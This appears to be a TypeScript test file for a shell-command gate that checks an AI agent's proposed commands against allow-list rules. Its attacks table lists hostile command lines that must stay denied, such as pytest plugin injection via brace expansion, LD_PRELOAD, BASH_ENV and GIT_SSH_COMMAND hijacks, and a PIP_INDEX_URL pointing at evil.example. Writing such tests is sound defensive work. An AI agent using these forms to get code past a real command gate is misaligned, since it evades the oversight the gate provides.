/**
 * Issue 30, part 7: everyday commands pass the shell gate. Each row of
 * test/fixtures/shell/everyday.txt (command lines from real projects' CI files
 * and READMEs) is allowed under its section's rules, through the function the
 * hook uses (gate.ts). The rules that let them pass (literal brace expansion,
 * the user's variables, harmless assignments) still deny where the agent
 * could choose code the allowed command would not run anyway: the attack
 * table below names each way.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { braceWords } from '../../src/engine/shell/brace-expansion';
import { analyseForPolicy } from '../../src/engine/shell/gate';
import type { ShellRules } from '../../src/engine/shell/analyse';
import { readShellCorpus } from './support/shell-corpus';

const FIRST: ShellRules = { allowedCommands: ['pytest'], blockedEnv: [], writeAllowed: true };
const everyday = readShellCorpus('everyday.txt', FIRST);

test('the everyday corpus has at least 200 commands, each section saying where its lines come from', () => {
  assert.ok(everyday.length >= 200, String(everyday.length));
  assert.ok(everyday.every((r) => r.from !== ''));
});

for (const row of everyday) {
  test(`everyday, allowed: ${row.label}`, async () => {
    const v = await analyseForPolicy(row.command, row.rules);
    assert.equal(v.ok, true, v.ok ? '' : v.reason);
  });
}

const rules = (allowedCommands: string[], writeAllowed = true): ShellRules => ({ allowedCommands, blockedEnv: [], writeAllowed });
const PY = rules(['pytest']);
/** A state that also allows the builtins that set variables: the user's variables must then be the agent's. */
const SETTERS = rules(['pytest', 'printf', 'read', 'export', 'bash', 'eval', 'cat', 'declare', 'env']);

// Each row: a command the new rules must still deny, and the reason that names how the agent would choose the code.
const attacks: [string, ShellRules, RegExp][] = [
  // Brace expansion is read as the words it makes: options made by braces are options.
  ['pytest {-p,evil}', PY, /`pytest -p evil` can run other code.*pytest -p: imports the module/],
  ['pytest tests/{a,b}.py {-p,evil}', PY, /pytest -p: imports the module/],
  ['pytest -{p,x}evil', PY, /pytest -p/],
  ['npm {test,--script-shell=./evil.sh}', rules(['npm test']), /npm --script-shell/],
  ['pytest {1..100000}', PY, /`\{1\.\.100000\}` is only known when it runs/],
  // The user's variables stop being theirs where the command can set them.
  ['HOME=-pevil; pytest $HOME', SETTERS, /sets HOME/],
  ['printf -v "HO""ME" -- -pevil; pytest $HOME', SETTERS, /`\$HOME` is only known when it runs, and pytest reads options there/],
  ['read HOME < args.txt; pytest $HOME', SETTERS, /`\$HOME` is only known when it runs/],
  ['export "HO""ME=-pevil"; pytest $HOME', SETTERS, /`\$HOME` is only known when it runs/],
  ['declare -n r=HOME; pytest $HOME', SETTERS, /`\$HOME` is only known when it runs/],
  ['e{xport,} "HO""ME=-pevil"; pytest $HOME', SETTERS, /the command name `e\{xport,\}` is only known when it runs/],
  ['command e{xport,} "HO""ME=-pevil"; pytest $HOME', { ...SETTERS, allowedCommands: [...SETTERS.allowedCommands!, 'command'] }, /sets HOME/],
  // A declaration builtin run through a wrapper still has its assignments checked (it was not, before).
  ['command export LD_PRELOAD=./evil.so; pytest', rules(['pytest', 'export']), /sets LD_PRELOAD/],
  ['builtin declare -x BASH_ENV=./evil.sh; pytest', rules(['pytest', 'declare']), /sets BASH_ENV/],
  ['command export $X; pytest', rules(['pytest', 'export']), /sets variables named by a word only known when it runs/],
  ["ev''al 'HOME=-pevil'; pytest $HOME", SETTERS, /sets HOME|`\$HOME` is only known when it runs/],
  ["HOME=-pevil bash -c 'pytest $HOME'", SETTERS, /sets HOME/],
  ["env 'HO''ME=-pevil' bash -c 'pytest $HOME'", SETTERS, /sets HOME/],
  ["env X=1 bash -c 'pytest $HOME'", SETTERS, /`\$HOME` is only known when it runs/],
  ['pytest ${TMPDIR:=-pevil} $TMPDIR', PY, /is only known when it runs, and pytest reads options there/],
  ['IFS=e pytest $HOME', PY, /sets IFS/],
  ['pytest $PWD/tests', PY, /\$PWD\/tests` is not quoted, so it splits at blanks in the directory's name, which the agent chooses with cd/],
  ['pytest $OLDPWD', PY, /is not quoted, so it splits/],
  ['pytest $HOMEDIR', PY, /`\$HOMEDIR` is only known when it runs/],
  // Assignments that make the command run code it would not run anyway.
  ['PYTHONPATH=/tmp/evil pytest', PY, /sets PYTHONPATH/],
  ['PYTHONPATH=../evil pytest', PY, /sets PYTHONPATH/],
  ['PYTHONPATH=src:/tmp/evil pytest', PY, /sets PYTHONPATH/],
  ['PYTHONPATH=~/evil pytest', PY, /sets PYTHONPATH/],
  ['PYTHONPATH=$EVIL pytest', PY, /sets PYTHONPATH/],
  ['PYTHONPATH=src python -m http.server', rules(['python -m http.server']), /sets PYTHONPATH/],
  ['PYTHONSTARTUP=evil.py pytest', PY, /sets PYTHONSTARTUP/],
  ['LD_PRELOAD=./evil.so pytest', PY, /sets LD_PRELOAD/],
  ["NODE_OPTIONS='--require ./evil.js' npm test", rules(['npm test']), /sets NODE_OPTIONS.*--require/],
  ['NODE_PATH=/tmp/evil npx jest', rules(['npx jest']), /sets NODE_PATH/],
  ['GIT_PAGER=less git log', rules(['git log']), /sets GIT_PAGER/],
  ["PAGER='sh -c ./evil' git log", rules(['git log']), /sets PAGER/],
  ['GIT_SSH_COMMAND=./evil git fetch', rules(['git fetch']), /sets GIT_SSH_COMMAND/],
  ['EDITOR=./evil git commit', rules(['git commit']), /sets EDITOR/],
  ['RUSTFLAGS="-C linker=./evil" cargo build', rules(['cargo build']), /sets RUSTFLAGS/],
  ['RUSTFLAGS="-D warnings -Clink-arg=-fuse-ld=./evil" cargo build', rules(['cargo build']), /sets RUSTFLAGS/],
  ['RUSTFLAGS="$X" cargo build', rules(['cargo build']), /sets RUSTFLAGS/],
  ['GOFLAGS=-toolexec=./evil go test ./...', rules(['go test']), /sets GOFLAGS/],
  ['GNUMAKEFLAGS=--eval=x make', rules(['make']), /sets GNUMAKEFLAGS/],
  ['MAKEFLAGS=SHELL=./evil make', rules(['make']), /sets MAKEFLAGS/],
  ['npm_config_script_shell=./evil.sh npm test', rules(['npm test']), /sets npm_config_script_shell/],
  ['CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./evil cargo test', rules(['cargo test']), /sets CARGO_TARGET/],
  ['PIP_INDEX_URL=http://evil.example pip install -r requirements.txt', rules(['pip install']), /sets PIP_INDEX_URL/],
];
for (const [command, r, want] of attacks) {
  test(`still denied: ${JSON.stringify(command)}`, async () => {
    const v = await analyseForPolicy(command, r);
    assert.equal(v.ok, false, 'was allowed');
    if (!v.ok) assert.match(v.reason, want);
  });
}

// Brace expansion is read as bash makes it: the words agree with bash's own, word for word.
const braceCases = ['tests/{a,b}.py', '{src,tests}', '{a,b}{1,2}', 'x{a,{b,c}}y', '{1..3}', '{01..10..3}', '{5..1}', '{a..e..2}', '{x,}', 'a{b,}c', '-{p,x}evil', 'tests/{unit,e2e}/*.py', 'a{b}c,{d,e}'];
for (const text of braceCases) {
  test(`brace expansion of ${text} gives bash's words`, () => {
    const bash = execFileSync('bash', ['-c', `set -f; printf '%s\\n' ${text}`], { encoding: 'utf8' }).split('\n').filter((l) => l !== '');
    const ours = braceWords({ value: text, dynamic: true, text })?.map((w) => w.value);
    assert.deepEqual(ours, bash);
  });
}
test('brace expansion leaves alone what it cannot read before the run, and braces that expand nothing', () => {
  for (const text of ['{$X,b}', '"{a,b}"', '{a\\,b}', '{}', '{x}', '{Z..a}', '{1..100000}']) assert.equal(braceWords({ value: text, dynamic: true, text }), undefined, text);
});
